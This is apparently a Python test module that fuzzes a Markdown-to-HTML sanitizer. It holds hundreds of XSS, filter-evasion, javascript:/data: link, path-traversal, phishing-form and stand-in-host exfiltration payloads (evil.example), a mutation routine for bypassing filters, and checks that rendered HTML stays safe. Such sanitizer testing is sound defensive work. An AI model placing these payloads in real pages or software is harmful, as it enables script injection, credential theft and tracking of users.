"""Markdown as an attacker would write it, and what a browser would make of the HTML."""

import re
from html import unescape
from html.parser import HTMLParser
from urllib.parse import unquote

from hypothesis import strategies as st

SCRIPTS = {
    "a script": "<script>alert(1)</script>",
    "a script from elsewhere": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a script within a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a script that never ends": "<script>alert(1)",
    "a script whose tag never ends": "<script src=//evil.example/x.js //",
    "a script after a slash": "<script/x>alert(1)</script/x>",
    "a script after a line": "<script\n>alert(1)</script\n>",
    "a script after a form feed": "<script\x0c>alert(1)</script>",
    "a script after a zero byte": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "a script with a lone surrogate": "\ud800<script>alert(1)</script>",
    "a script in full-width letters": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "a script with a long s": "<\u017fcript>alert(1)</\u017fcript>",
    "a script in UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "a script in overlong bytes": "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
    "a module": "<script type=module>import'//evil.example/x.js'</script>",
    "a script with a nonce": "<script nonce=1>alert(1)</script>",
    "a script in entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a script in numbers": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "a script in entities twice over": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "a script in numbers without semicolons": "&#60script&#62alert(1)&#60/script&#62",
    "a script with escapes": "\\<script>alert(1)\\</script>",
    "a script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "a script in an instruction": "<?php echo '<script>alert(1)</script>' ?>",
    "a script in a declaration": "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "a script after a text area": "<textarea></textarea><script>alert(1)</script>",
    "a script after a title": "</title><script>alert(1)</script>",
    "a script after the page's end": "</div></main></body></html><script>alert(1)</script>",
    "a script in a template": "<template><script>alert(1)</script></template>",
    "a script in a shadow": "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
    "a template of the server": "{% load x %}{{ request.user.password }}<script>alert(1)</script>",
    "a template of the browser": "{{constructor.constructor('alert(1)')()}}<script>{{x}}</script>",
    "an import map": '<script type="importmap">{"imports":{"x":"//evil.example/x.js"}}</script>',
}  # fmt: skip

HANDLERS = {
    "a picture that fails": "<img src=x onerror=alert(1)>",
    "a picture that never ends": "<img src=x onerror=alert(1)//",
    "a picture with a slash for a space": "<img/src=x/onerror=alert(1)>",
    "a picture with a zero byte": "<img src=x o\x00nerror=alert(1)>",
    "a picture with three quotes": '<img """><script>alert(1)</script>">',
    "a picture with backticks": "<img src=`x`onerror=alert(1)>",
    "a picture with many sources": "<img srcset='x,//evil.example/y' onerror=alert(1)>",
    "a page that loads": "<body onload=alert(1)>",
    "details that open": "<details open ontoggle=alert(1)>x</details>",
    "a link under the mouse": "<a onmouseover=alert(1)>x</a>",
    "a box in focus": "<input autofocus onfocus=alert(1)>",
    "an unknown tag in focus": "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "a film that fails": "<video><source onerror=alert(1)></video>",
    "sound that fails": "<audio src onerror=alert(1)>",
    "a marquee": "<marquee onstart=alert(1)>x</marquee>",
    "a choice in focus": "<select autofocus onfocus=alert(1)></select>",
    "a style that animates": "<p style='animation:x' onanimationend=alert(1)>x</p>",
    "a page shown": "<body onpageshow=alert(1)>",
    "a popover": "<button popovertarget=x>y</button><p id=x popover onbeforetoggle=alert(1)>z</p>",
    "a text that may be edited": "<p contenteditable onblur=alert(1)>x</p>",
    "a request of htmx": "<p hx-get=/logout hx-trigger=load>x</p>",
    "a request of htmx under data": "<p data-hx-post=/logout data-hx-trigger=load>x</p>",
    "words of htmx that run": "<p hx-on:load=alert(1) hx-vals='js:{x:alert(1)}'>x</p>",
    "a handler after a title": '[x](https://ok.example "onmouseover=alert(1)")',
    "a handler after a quote in a link": '[x](https://ok.example"onmouseover="alert(1))',
    "a handler after an apostrophe in a link": "[x](https://ok.example/'onclick='alert(1))",
    "a handler after a quote in entities": "[x](https://ok.example&quot;onclick=&quot;alert(1))",
    "a handler after an escaped quote in a link": '[x](<https://ok.example/\\"onclick=\\"alert(1)>)',
    "a handler in a picture's words": '![x" onerror="alert(1)](/articles/attachments/0123456789abcdef0123456789abcdef)',
    "a handler in a picture's address":
        '![x](/articles/attachments/0123456789abcdef0123456789abcdef"onerror="alert(1))',
    "a handler in a picture's title":
        "![x](/articles/attachments/0123456789abcdef0123456789abcdef '\"onerror=\"alert(1)')",
    "a handler in the words of code": "```html onload=alert(1)\n<svg onload=alert(1)>\n```",
    "a handler in the name of a language": '```"onclick="alert(1)\nx\n```',
    "a handler in the name of a language with tildes": "~~~python\" onclick='alert(1)'\nx\n~~~",
    "a handler in a callout's name": '> [!"onclick=alert(1)]\n> x',
    "a handler in a definition": '[x][r]\n\n[r]: https://ok.example "\\"onclick=alert(1)"',
    "a handler in an attribute list": "[x](https://ok.example){onclick=alert(1) .btn #main}",
    "a handler in a heading's attributes": "# x {#main onclick=alert(1)}",
}  # fmt: skip

EMBEDDED = {
    "an SVG": "<svg onload=alert(1)>",
    "an SVG with a script": "<svg><script>alert(1)</script></svg>",
    "an SVG with a script in entities": "<svg><script>&#97;lert(1)</script></svg>",
    "an SVG that animates a link": "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>",
    "an SVG that sets a handler": "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "an SVG that uses another": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x' /></svg>",
    "an SVG with a foreign page": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></svg>",
    "an SVG that hides markup in its style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "an SVG as a picture": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "an SVG as a picture, written out": "![x](<data:image/svg+xml,<svg onload=alert(1)>>)",
    "mathematics with a link": "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "mathematics that mutates": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
                                "onerror=alert(1)&gt;'>",
    "mathematics that acts": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</math>",
    "a form that mutates": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "a frame": "<iframe src=javascript:alert(1)></iframe>",
    "a frame with its page": "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "a frame that never ends": "<iframe src='//evil.example/",
    "a fenced frame": "<fencedframe src=//evil.example></fencedframe>",
    "an old frame": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "an object": "<object data=data:text/html,<script>alert(1)</script>></object>",
    "an object with a type": "<object type=text/x-scriptlet data=//evil.example/x.html></object>",
    "an embedded file": "<embed src=javascript:alert(1)>",
    "an applet": "<applet code=x.class archive=//evil.example/x.jar></applet>",
    "a portal": "<portal src=//evil.example onactivate=alert(1)></portal>",
    "a form": "<form action=javascript:alert(1)><input type=submit></form>",
    "a form for passwords": "<form action=//evil.example><input name=password type=password></form>",
    "a button that changes a form": "<button form=x formaction=javascript:alert(1)>y</button>",
    "a box that changes a form": "<input type=image src=x formaction=//evil.example>",
    "a token for another form": "<input type=hidden name=csrfmiddlewaretoken value=x form=ask-form>",
    "a film's subtitles": "<video controls><track src=//evil.example/x.vtt default></video>",
    "a dialog over the page": "<dialog open>Sign in again</dialog>",
}  # fmt: skip

HEADS = {
    "a style": "<style>@import'http://evil.example/x.css';</style>",
    "a style that never ends": "<style>body{display:none}",
    "a style on a tag": "<div style=background:url(javascript:alert(1))>x</div>",
    "a style that covers the page": "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    "a style that reads what is typed": "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "a style sheet": "<link rel=stylesheet href=http://evil.example/x.css>",
    "an import": "<link rel=import href=//evil.example/x.html>",
    "a page fetched ahead": "<link rel=prefetch href=//evil.example/who>",
    "a name looked up ahead": "<link rel=dns-prefetch href=//who.evil.example>",
    "a manifest": "<link rel=manifest href=//evil.example/x.json>",
    "a page that moves on": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "a policy of its own": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "a charset of its own": "<meta charset=utf-7>",
    "a referrer for everybody": "<meta name=referrer content=unsafe-url>",
    "a base": "<base href=javascript:alert(1)//>",
    "a base elsewhere": "<base href=//evil.example target=_top>",
    "a tag that swallows what follows": "<plaintext>",
    "a tag that shows markup": "<xmp><script>alert(1)</script></xmp>",
    "a page without scripts": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "an attribute that swallows what follows": "<img src='//evil.example/?",
    "a text area that swallows what follows": "<form action=//evil.example><textarea name=x>",
    "an end of the page": "</article></main></body></html>",
    "an end of a table": "</td></tr></table><h1>Elsewhere</h1>",
    "an end of code": "`x`</code></pre></div><script>alert(1)</script>",
}  # fmt: skip

COMMENTS = {
    "a comment that ends at once": "<!--><img src=x onerror=alert(1)>-->",
    "a comment that ends with a dash": "<!---><img src=x onerror=alert(1)>-->",
    "a comment that ends with a bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "a comment that never ends": "<!-- <script>alert(1)</script>",
    "a comment within a comment": "<!-- <!-- --> <script>alert(1)</script> -->",
    "a comment for an old browser": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "a comment that joins a tag": "<scr<!-- x -->ipt>alert(1)</scr<!-- x -->ipt>",
    "a comment that joins a scheme": "[x](java<!-- x -->script:alert(1))",
    "a comment that joins a handler": "<img src=x on<!-- x -->error=alert(1)>",
    "a bogus comment": "<!x><script>alert(1)</script>",
    "another bogus comment": "</ ><script>alert(1)</script>",
}

LINKS = {
    "a link that runs": "[x](javascript:alert(1))",
    "a link that runs, in mixed case": "[x](JaVaScRiPt:alert(1))",
    "a link that runs, after a blank": "[x]( javascript:alert(1))",
    "a link that runs, in angles": "[x](<javascript:alert(1)>)",
    "a link that runs, after blanks in angles": "[x](<  javascript:alert(1)>)",
    "a link that runs, by a numbered colon": "[x](javascript&#58;alert(1))",
    "a link that runs, by a named colon": "[x](javascript&colon;alert(1))",
    "a link that runs, by percent": "[x](javascript%3Aalert(1))",
    "a link that runs, by percent in its name": "[x](%6Aavascript:alert(1))",
    "a link that runs, by numbers without semicolons":
        "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "a link that runs, by numbers": "[x](&#106;&#97;&#118;&#97;script:alert(1))",
    "a link that runs, by numbers with zeros": "[x](&#0000106;avascript:alert(1))",
    "a link that runs, by entities twice over": "[x](&amp;#106;avascript:alert(1))",
    "a link that runs, with a tab": "[x](java&Tab;script:alert(1))",
    "a link that runs, with a line": "[x](java&NewLine;script:alert(1))",
    "a link that runs, with a line by percent": "[x](java%0Ascript:alert(1))",
    "a link that runs, with a soft hyphen": "[x](java&shy;script:alert(1))",
    "a link that runs, with a zero-width space": "[x](java\u200bscript:alert(1))",
    "a link that runs, after a control": "[x](\x01javascript:alert(1))",
    "a link that runs, after a numbered control": "[x](&#1;javascript:alert(1))",
    "a link that runs, after a byte order mark": "[x](\ufeffjavascript:alert(1))",
    "a link that runs, after a no-break space": "[x](&nbsp;javascript:alert(1))",
    "a link that runs, with an escape": "[x](javascript\\:alert(1))",
    "a link that runs, in full width": "[x](\uff4aavascript\uff1aalert(1))",
    "a link that runs, before a good one": "[x](javascript:alert(1)//https://ok.example)",
    "a link that runs, as an address": "[x](javascript://%0aalert(1))",
    "a link that runs, after https": "[x](https:javascript:alert(1))",
    "a link that runs, after an article": "[x](article:javascript:alert(1))",
    "a link that runs, after mailto": "[x](mailto:javascript:alert(1))",
    "a link that runs, after a view": "[x](view-source:javascript:alert(1))",
    "a link that runs, after feed": "[x](feed:javascript:alert(1))",
    "a link that runs, after jar": "[x](jar:javascript:alert(1)!/)",
    "a link that runs Basic": "[x](vbscript:msgbox(1))",
    "a link that runs Basic, in mixed case": "[x](VBScript:msgbox(1))",
    "a link that runs LiveScript": "[x](livescript:alert(1))",
    "a link that runs mocha": "[x](mocha:alert(1))",
    "a link defined elsewhere that runs": "[x][r]\n\n[r]: javascript:alert(1)",
    "a link defined in angles that runs": "[x][r]\n\n[r]: <javascript:alert(1)>",
    "a link defined on the next line that runs": "[x][r]\n\n[r]:\njavascript:alert(1)",
    "a link in angles that runs": "<javascript:alert(1)>",
    "a link in angles that runs Basic": "<vbscript:msgbox(1)>",
    "a link in angles to data": "<data:text/html,x>",
    "a link in HTML that runs": "<a href=javascript:alert(1)>x</a>",
    "a link in HTML that runs, after a control": "<a\thref\t=\t'\x0bjavascript:alert(1)'>x</a>",
    "a link in HTML that reports": "<a href=https://ok.example ping=//evil.example>x</a>",
    "a link in HTML that opens a window": "<a href=//evil.example target=_top>x</a>",
    "a link to data in base64":
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a link to data": "[x](data:text/html,<script>alert(1)</script>)",
    "a link to data in mixed case": "[x](DaTa:text/html,x)",
    "a link to data without a type": "[x](data:,x)",
    "a link to data as XML": "[x](data:application/xhtml+xml,x)",
    "a link to data, defined elsewhere": "[x]\n\n[x]: data:text/html,1",
    "a file to be smuggled": "<a download=bill.exe href='data:application/octet-stream;base64,TVqQ'>Bill</a>",
    "a file to be smuggled in Markdown": "[Bill](data:application/octet-stream;base64,TVqQ)",
    "a file to be smuggled by a blob": "<script>URL.createObjectURL(new Blob(['MZ']))</script>[x](blob:null/1)",
    "a link to a file": "[x](file:///etc/passwd)",
    "a link to a share that asks for a password": "[x](file://evil.example/share)",
    "a link to a share in backslashes": "[x](\\\\\\\\evil.example\\\\share)",
    "a link to a blob": "[x](blob:https://ok.example/1)",
    "a link to a file system": "[x](filesystem:https://ok.example/x)",
    "a link into the browser": "[x](chrome://settings)",
    "a link to about": "[x](about:blank)",
    "a link that starts a program": "[x](ms-msdt:/id PCWDiagnostic)",
    "a link that starts a search": "[x](search-ms:query=x&crumb=location:\\\\evil.example)",
    "a link that installs": "[x](ms-appinstaller:?source=https://evil.example/x)",
    "a link to a shell": "[x](ssh://-oProxyCommand=calc/x)",
    "a link to a phone's app": "[x](intent://x#Intent;scheme=y;end)",
    "a link without a scheme": "[x](//evil.example)",
    "a link without a scheme by three slashes": "[x](///evil.example)",
    "a link without a scheme, by a backslash": "[x](/\\evil.example)",
    "a link without a scheme, by backslashes": "[x](\\\\evil.example)",
    "a link without a scheme, by a tab": "[x](/&Tab;/evil.example)",
    "a link without a host": "[x](https:///evil.example)",
    "a link that signs out": "[x](/logout)",
    "a link that signs out, from here": "[x](logout)",
    "a link that signs out, from above": "[x](../logout)",
    "a link that asks": "[x](?next=//evil.example)",
    "a link to an article that climbs": "[x](article:../../logout)",
    "a link to an article with a handler": '[x](article:a"onclick="alert(1))',
    "a link to an article of a thousand letters": f"[x](article:{'a' * 1000})",
    "a link to a mark with a handler": '[x](#a"onclick="alert(1))',
    "a link within a link": "[a [b](javascript:1) c](javascript:2)",
    "a picture within a link": "[![x](javascript:1)](javascript:2)",
    "a script within a link": "[<script>alert(1)</script>](https://ok.example)",
    "a link whose words run backwards": "[\u202elmth.live](https://ok.example)",
}  # fmt: skip

PICTURES = {
    "a picture that runs": "![x](javascript:alert(1))",
    "a picture in HTML that runs": "<IMG SRC=javascript:alert('XSS')>",
    "a picture that counts readers": "![x](https://evil.example/pixel.gif)",
    "a picture that counts readers, without a scheme": "![x](//evil.example/pixel.gif)",
    "a picture that counts readers, by a backslash": "![x](/\\evil.example/pixel.gif)",
    "a picture that counts readers, from a definition": "![x][p]\n\n[p]: https://evil.example/pixel.gif",
    "a picture that signs out": "![x](/logout)",
    "a picture that climbs": "![x](/articles/attachments/../logout)",
    "a picture that climbs by percent": "![x](/articles/attachments/%2e%2e/logout)",
    "a picture that climbs by percent twice over": "![x](/articles/attachments/%252e%252e/logout)",
    "a picture that climbs by a slash in percent": "![x](/articles/attachments/..%2flogout)",
    "a picture that climbs by backslashes": "![x](/media\\..\\logout)",
    "a picture that climbs by entities": "![x](/articles/attachments/&period;&period;/logout)",
    "a picture that climbs by two slashes": "![x](/articles/attachments//evil.example/x.png)",
    "a picture that climbs by full-width dots": "![x](/articles/attachments/\uff0e\uff0e/logout)",
    "a picture from a place that begins alike": "![x](/articles/attachments-evil/0123456789abcdef0123456789abcdef)",
    "a picture from the place itself": "![x](/articles/attachments)",
    "a picture with a question": "![x](/articles/attachments/0123456789abcdef0123456789abcdef?next=//evil.example)",
    "a picture of a key in capitals": "![x](/articles/attachments/0123456789ABCDEF0123456789ABCDEF)",
    "a picture of a key in other digits": "![x](/articles/attachments/\u0661123456789abcdef0123456789abcdef)",
    "a picture of a key and a line": "![x](</articles/attachments/0123456789abcdef0123456789abcdef&NewLine;>)",
    "a picture of a key under another address": "![x](//evil.example/articles/attachments/%s)" % ("0f" * 16),
    "a picture after a zero byte": "![x](/articles/attachments/0123456789abcdef\x000123456789abcdef)",
    "a picture after a line": "![x](/articles/attachments/0123456789abcdef0123456789abcdef%0d%0aSet-Cookie:x)",
    "a picture of data": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "a picture of a file": "![x](file:///etc/passwd)",
    "a picture whose words are a picture": "![![y](javascript:1)](javascript:2)",
}

PLACES = {
    "a script in a line of code": "`<script>alert(1)</script>`",
    "a script in indented code": "    <script>alert(1)</script>",
    "a script in fenced code": "```html\n<script>alert(1)</script>\n```",
    "a script in the name of a language": '```"><script>alert(1)</script>\nx\n```',
    "a script in coloured code": "```js\n</code></pre><script>alert(1)</script>\n```",
    "a script in a string of coloured code": '```python\nx = "</span><script>alert(1)</script>"\n```',
    "a script in a language of templates": "```html+jinja\n{{ x }}<script>alert(1)</script>\n```",
    "a script in code that never ends": "```html\n<script>alert(1)</script>",
    "a script in a table": "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "a handler in a table's line": "| a |\n|:-\"onclick=alert(1)-:|\n| b |",
    "a style in a table": "| a |\n|:-:|\n| <td style=position:fixed> |",
    "a script in a callout": "> [!NOTE]<script>alert(1)</script>\n> <svg onload=alert(1)>",
    "a picture in a heading": "# <img src=x onerror=alert(1)>",
    "a script in a heading": '# "><script>alert(1)</script>',
    "a script in an underlined heading": "<script>alert(1)</script>\n===",
    "a link that runs in a heading": "## [x](javascript:alert(1))",
    "a heading called like the page's main part": "# main\n\n## Find\n\n## Did this help?",
    "a heading called like what scripts use": "# location\n\n# cookie\n\n# __proto__\n\n# constructor",
    "a heading of marks alone": "# '\"<>&\n\n# \x00\n\n# ***",
    "headings called the same": "# a\n\n# a\n\n# a-2\n\n# a",
    "a heading of a thousand letters": "# " + "a" * 1000,
    "a box in a task": "- [ ] <input onfocus=alert(1) autofocus>",
    "a script in a numbered list": "999999999. <script>alert(1)</script>",
    "a list that starts nowhere": "0000000000. x\n\n-1. y\n\n1e9. z",
    "a script in emphasis": "***<script>alert(1)</script>***~~<svg onload=alert(1)>~~",
    "a script in a footnote": "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "a script in front matter": "---\ntitle: <script>alert(1)</script>\n---\n",
    "a script in a definition's name": "[<script>alert(1)</script>]\n\n[<script>alert(1)</script>]: javascript:1",
    "a script after a break": "x<br/onload=alert(1)><br><script>alert(1)</script>",
    "a script between carriage returns": "\r<script>\ralert(1)\r</script>\r",
    "a script between line separators": "\u2028<script>\u2029alert(1)\x85</script>",
    "a script in Unicode that turns the line": "\u202e<script>alert(1)</script>\u2066",
}  # fmt: skip

DEEP = {
    "quotes in quotes": "> " * 500 + "<script>alert(1)</script>",
    "lists in lists": "- " * 500 + "<script>alert(1)</script>",
    "numbered lists in lists": "1. " * 500 + "[x](javascript:1)",
    "brackets in brackets": "[" * 2000 + "x" + "](javascript:1)" * 2000,
    "pictures in pictures": "![" * 500 + "x" + "](javascript:1)" * 500,
    "emphasis in emphasis": "*" * 3000 + "<b onclick=1>" + "*" * 3000,
    "backticks of every length": " ".join("`" * n for n in range(1, 150)),
    "tags in tags": "<div>" * 3000 + "<script>alert(1)</script>",
    "openings of comments": "<!--" * 3000,
    "openings of tags": "<" * 5000 + "script>",
    "ampersands": "&" * 5000 + "lt;script>",
    "entities in entities": "&" + "amp;" * 3000 + "lt;script&gt;",
    "a table of a thousand columns": "|a" * 1000 + "|\n" + "|-" * 1000 + "|\n" + "|<svg onload=1>" * 1000 + "|",
    "a table with rows that are left empty": "|a" * 300 + "\n" + "|-" * 300 + "\n" + "|\n" * 400,
    "a table of a thousand rows": "|a|\n|-|\n" + "|<script>alert(1)</script>|\n" * 1000,
    "a long target that many links refer to": f"[a]: https://ok.example/{'y' * 40_000}\n\n" + "[a]" * 9_000,
    "a definition for every link": "".join(f"[r{n}]: javascript:{n}\n[r{n}]\n\n" for n in range(500)),
    "callouts in callouts": "".join("> " * n + "[!NOTE]\n" for n in range(1, 60)),
    "a thousand headings": "# <script>\n" * 1000,
    "a thousand blocks of code": "```html\n<script>\n```\n" * 300,
    "code that takes long to colour": "```java\n" + "a " * 1900 + "\n```",
    "accents on one letter": "e" + "\u0301" * 5000 + "<script>",
    "blanks without end": "x" + " " * 20_000 + "<script>",
    "zero bytes without end": "\x00" * 5000 + "<script>",
}  # fmt: skip

HOSTILE = SCRIPTS | HANDLERS | EMBEDDED | HEADS | COMMENTS | LINKS | PICTURES | PLACES | DEEP
SHORT = [source for name, source in HOSTILE.items() if name not in DEEP]

MARKDOWN = st.lists(
    st.one_of(
        st.sampled_from(
            ["\n", "\n\n", "\r\n", "\r", "\t", " ", "# ", "## ", "# a\n", "a\n===\n", "1. ", "- ", "> ", "> [!NOTE]\n",
             "```\n", "|a|b|\n|-|-|\n", "<!--", "-->", "<br>", "**", "_", "`", "[", "](", ")", "![", "javascript:",
             "article:x",
             "<script>", "onerror=", "&#", "\\", "    ", "***\n", "~~", "[ ] ", "Wi-Fi", "\x00", "\u2028", "É"]
        ),
        st.text(max_size=8),
        st.sampled_from(SHORT),
    ),
    max_size=40,
).map("".join)  # fmt: skip


@st.composite
def mutated(draw: st.DrawFn) -> str:
    """A hostile text as somebody would vary it to get past a filter: blanks, entities, percent, case, comments."""
    source = draw(st.sampled_from(SHORT))
    for _ in range(draw(st.integers(1, 5))):
        at = draw(st.integers(0, len(source)))
        before, char, after = source[:at], source[at : at + 1], source[at + 1 :]
        source = before + draw(st.sampled_from(_varied(char))) + after
    return source


def _varied(char: str) -> list[str]:
    code = ord(char or " ")
    return [
        char.swapcase(), f"\t{char}", f"\n{char}", f"\r{char}", f" {char}", f"\x00{char}", f"\\{char}", f"/{char}",
        f"\x0c{char}", f"\u200b{char}", f"<!-- -->{char}", f"&#{code};", f"&#x{code:x}", f"&#0{code:09};",
        f"&Tab;{char}", f"&NewLine;{char}", f"&colon;{char}", f"%{code % 256:02x}", char * 2, "", f'"{char}',
        f"'{char}", f"`{char}", f"<{char}", f">{char}", f"]({char}",
    ]  # fmt: skip


# --- what a browser would see --------------------------------------------------------------------------------------
OWN_PICTURE = r"/articles/attachments/[0-9a-f]{32}"
EMPTY_TAGS = {"br", "hr", "img", "input"}
# Written down here anew, so that a slip in the product's own list shows.
ALLOWED: dict[str, set[str]] = {
    "p": {"class"}, "h2": {"id"}, "h3": {"id"}, "h4": {"id"}, "h5": {"id"}, "h6": {"id"}, "ul": set(), "ol": {"start"},
    "li": {"class"}, "blockquote": set(), "pre": {"class", "tabindex"}, "code": set(), "em": set(), "strong": set(),
    "s": set(), "a": {"href", "rel"}, "img": {"src", "alt", "loading"}, "br": set(), "hr": set(), "table": set(),
    "thead": set(), "tbody": set(), "tr": set(), "th": {"class"}, "td": {"class"},
    "div": {"class", "role", "tabindex", "aria-label"}, "span": {"class"},
    "input": {"type", "disabled", "checked", "aria-label"},
}  # fmt: skip
_CLASSES = re.compile(
    r"callout(?:-(?:title|note|tip|important|warning|caution))?|table-scroll|highlight|quote-heading|plain"
    r"|task-item|text-(?:start|center|end)|[a-z][a-z0-9]{0,2}"
)


class Page(HTMLParser):
    """What a browser would see: tags, attributes, ids, link targets."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.open: list[str] = []
        self.strays: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        if tag not in EMPTY_TAGS:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self.open and self.open[-1] == tag:
            self.open.pop()
        else:
            self.strays.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.strays.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.strays.append(f"<!{decl}")

    def unknown_decl(self, data: str) -> None:
        self.strays.append(f"<![{data}")

    def handle_pi(self, data: str) -> None:
        self.strays.append(f"<?{data}")

    def values(self, name: str) -> list[str]:
        return [value for _, attribute, value in self.attributes if attribute == name]


def assert_harmless(html: str) -> None:
    """Only what is allowed, well nested so that nothing leaves its place on the page, and leading nowhere else."""
    page = Page(html)
    assert set(page.tags) <= set(ALLOWED)
    assert not page.strays
    assert not page.open
    assert "<script" not in html.lower()
    for tag, name, value in page.attributes:
        assert name in ALLOWED[tag], (tag, name)
        _assert_harmless_value(tag, name, value)
    ids = page.values("id")
    assert len(set(ids)) == len(ids)


def _assert_harmless_value(tag: str, name: str, value: str) -> None:
    if name == "href":
        assert _leads_nowhere_else(value), value
    elif name == "src":
        assert re.fullmatch(OWN_PICTURE, value), value
        assert _leads_nowhere_else(value), value
    elif name == "class":
        assert all(_CLASSES.fullmatch(one) for one in value.split()), value
    elif name == "type":
        assert (tag, value) == ("input", "checkbox")
    elif name == "id":
        assert re.fullmatch(r"[\w-]+", value), value


def _leads_nowhere_else(target: str) -> bool:
    """Whether a target stays harmless however often something on the way decodes it."""
    plain = target
    for _ in range(4):
        path = re.sub(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028-\u202f\ufeff]", "", plain)
        if not re.match(r"https?://[^/]|mailto:|tel:|#|/articles/(?!.*\.\.)", path, re.IGNORECASE):
            return False
        plain = unquote(unescape(plain))
    return True
